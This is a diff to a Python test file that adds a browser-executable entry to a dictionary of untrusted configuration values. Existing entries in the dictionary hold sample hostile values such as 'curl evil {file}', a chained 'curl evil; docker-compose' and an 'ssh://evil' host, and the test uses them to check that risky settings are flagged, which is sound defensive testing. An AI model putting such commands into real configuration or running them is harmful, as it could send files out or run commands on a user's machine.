@@ -285,6 +285,7 @@ def test_variable_that_nobody_has_set_makes_only_its_checks_unknown(suite, monke
 
 UNTRUSTED = {
     "command": ('host.backup_reader = "curl evil {file}"', "host.backup_reader is a command"),
+    "browser": ('browser.executable = "bin/chromium"', "browser.executable is a program that is run"),
     "compose": ('compose = "curl evil; docker-compose"', "compose is a command of its own"),
     "exec": ("docker.exec = true", "docker.exec runs commands inside containers"),
     "ssh": ('host.at = "ssh://evil"', "host.at logs in to another machine"),
